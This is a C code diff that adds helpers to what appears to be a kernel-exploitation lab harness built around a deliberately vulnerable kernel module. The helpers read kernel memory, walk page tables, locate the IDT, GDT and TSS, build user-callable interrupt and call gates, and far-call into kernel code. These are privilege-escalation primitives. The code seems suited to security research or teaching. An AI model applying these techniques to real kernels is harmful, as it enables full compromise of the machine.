@@ -156,6 +156,12 @@ void undo_msr(u32 msr)
 	undo->count++;
 }
 
+void undo_gdt(u64 base, u16 limit)
+{
+	*new_undo() = (struct undo){ .kind = UNDO_GDT, .at = base, .length = limit };
+	undo->count++;
+}
+
 void undo_all(void)
 {
 	while (undo->count) {
@@ -172,6 +178,10 @@ void undo_all(void)
 			break;
 		case UNDO_MSR:
 			op = (struct vulnerable_operation){ VULNERABLE_WRMSR, { entry.at, entry.value }, { 0 } };
+			try_operate(&op);
+			break;
+		case UNDO_GDT:
+			op = (struct vulnerable_operation){ VULNERABLE_LGDT, { entry.at, entry.length }, { 0 } };
 			try_operate(&op);
 			break;
 		}
@@ -217,6 +227,103 @@ u64 entry_of(u64 address, u64 *value, unsigned *shift)
 	if (shift)
 		*shift = op.out[2];
 	return op.out[0];
+}
+
+u64 entry_at(u64 address, unsigned shift)
+{
+	u64 table = operate(VULNERABLE_RDCR, 3, 0, 0) & FRAME;
+
+	for (unsigned level = 39;; level -= 9) {
+		u64 entry = direct(table) + 8 * (address >> level & 511), value;
+
+		if (level == shift)
+			return entry;
+		value = kread64(entry);
+		if (!(value & PRESENT) || value & LARGE)
+			failed("%#llx has no table of entries for %u bits", (unsigned long long)address, shift);
+		table = value & FRAME;
+	}
+}
+
+u64 find_bytes(u64 from, size_t room, const void *pattern, size_t length)
+{
+	u8 bytes[4096];
+
+	if (room + length > sizeof(bytes))
+		failed("too long a search");
+	kread(from, bytes, room + length);
+	for (size_t at = 0; at < room; at++)
+		if (!memcmp(bytes + at, pattern, length))
+			return from + at;
+	failed("no such bytes at %#llx", (unsigned long long)from);
+}
+
+struct tables tables(void)
+{
+	struct vulnerable_operation op = { .what = VULNERABLE_TABLES };
+	struct tables found;
+	u64 low, high;
+
+	if (try_operate(&op))
+		failed("no tables");
+	found = (struct tables){ .idt = op.out[0],
+				 .gdt = op.out[1],
+				 .idt_limit = op.out[2],
+				 .gdt_limit = op.out[2] >> 16,
+				 .task = op.out[3] >> 16 };
+	low = kread64(found.gdt + found.task);
+	high = kread64(found.gdt + found.task + 8);
+	found.tss = (low >> 16 & 0xffffff) | (low >> 56) << 24 | high << 32;
+	return found;
+}
+
+void interrupt_gate(u8 to[16], u64 handler, unsigned stack)
+{
+	u64 low = (handler & 0xffff) | 0x10ull << 16 | (u64)stack << 32 | 0xeeull << 40 | (handler >> 16 & 0xffff) << 48;
+	u64 high = handler >> 32;
+
+	memcpy(to, &low, 8);
+	memcpy(to + 8, &high, 8);
+}
+
+void call_gate(u8 to[16], u64 handler)
+{
+	u64 low = (handler & 0xffff) | 0x10ull << 16 | 0xecull << 40 | (handler >> 16 & 0xffff) << 48;
+	u64 high = handler >> 32;
+
+	memcpy(to, &low, 8);
+	memcpy(to + 8, &high, 8);
+}
+
+long call_far(u16 selector, u64 gs_of_kernel)
+{
+	struct {
+		u32 offset;
+		u16 selector;
+	} __attribute__((packed)) pointer = { 0, selector };
+	long result;
+	u64 gs;
+
+	__asm__ volatile("rdgsbase %1; wrgsbase %3; xor %%eax, %%eax; lcall *%2; wrgsbase %1"
+			 : "=&a"(result), "=&r"(gs)
+			 : "m"(pointer), "r"(gs_of_kernel)
+			 : "memory", "cc", "rcx", "rdx");
+	return result;
+}
+
+u64 hypervisor(void)
+{
+	FILE *file = fopen("/proc/iomem", "r");
+	unsigned long long start, end, found = 0;
+	char line[256];
+
+	while (file && fgets(line, sizeof(line), file))
+		if (line[0] != ' ' && sscanf(line, "%llx-%llx", &start, &end) == 2 && strstr(line, "eserved") &&
+		    end - start > 0x100000 && end < 0x80000000ull)
+			found = start;
+	if (!found)
+		failed("nothing is reserved");
+	return found;
 }
 
 u64 physical(u64 address)
@@ -425,6 +532,16 @@ void insert_module(const char *path)
 int remove_module(const char *name)
 {
 	return syscall(SYS_delete_module, name, O_NONBLOCK) ? errno : 0;
+}
+
+long parameter(const char *name)
+{
+	char path[128], text[32] = "";
+
+	snprintf(path, sizeof(path), "/sys/module/target/parameters/%s", name);
+	if (read_file(path, text, sizeof(text)))
+		failed("no parameter %s", name);
+	return atol(text);
 }
 
 int read_file(const char *path, char *to, size_t room)
